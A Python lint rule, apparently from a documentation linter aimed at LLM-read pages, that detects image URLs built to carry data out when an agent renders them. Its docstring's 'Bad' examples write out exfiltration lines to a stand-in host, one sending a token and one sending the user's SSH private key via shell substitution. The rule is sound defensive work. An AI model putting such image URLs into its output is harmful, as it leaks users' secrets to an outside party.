"""An image address that carries data out.

## What it does
Finds images whose address has a place to fill in: a template, a shell substitution, a parameter such as `data=`.

## Why is this bad?
An agent that renders the image sends what it filled in to whoever owns the host.

## Bad
````markdown
![](https://eve.example/p.png?data={{token}})
````

````markdown
![x](https://eve.example/p?q=$(cat ~/.ssh/id_rsa))
````

## Good
````markdown
![Build](https://ci.example/badge.svg?branch=main)
````

## Fix safety
There is no automatic fix.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from mkdocs_llms.lint.finding import Finding, Severity

if TYPE_CHECKING:
    from mkdocs_llms.lint.document import Document

CODE = "SEC405"
NAME = "image-that-carries-data"
SEVERITY: Severity = "warning"
DEFAULT = False

_IMAGE = re.compile(
    r"!\[[^\]\n]{0,300}\]\(<?(?P<url>https?://[^\s>]{1,2000})|<img\b[^<>]{0,500}\bsrc=[\"'](?P<src>https?://[^\"'\s]{1,2000})",
    re.IGNORECASE,
)
_CARRIES = re.compile(
    r"[?&#/][^?&]{0,300}(?:\{\{|\$\{|\$\(|%7B%7B|<[A-Z_]+>|\[[A-Z_]{3,}\]|\{[a-z_]+\})|"
    r"[?&](?:data|secret|token|key|password|prompt|conversation|context|history|exfil|leak)=",
    re.IGNORECASE,
)


def check(document: Document) -> Iterator[Finding]:
    """Yield each such image."""
    fences = [(fence.start, fence.end) for fence in document.fences]
    for found in _IMAGE.finditer(document.text):
        inside = any(start <= found.start() < end for start, end in fences)
        if not inside and _CARRIES.search(found["url"] or found["src"]):
            yield Finding(
                found.start(),
                found.end(),
                "The address of this image has room for data of the reader; use a fixed address.",
            )
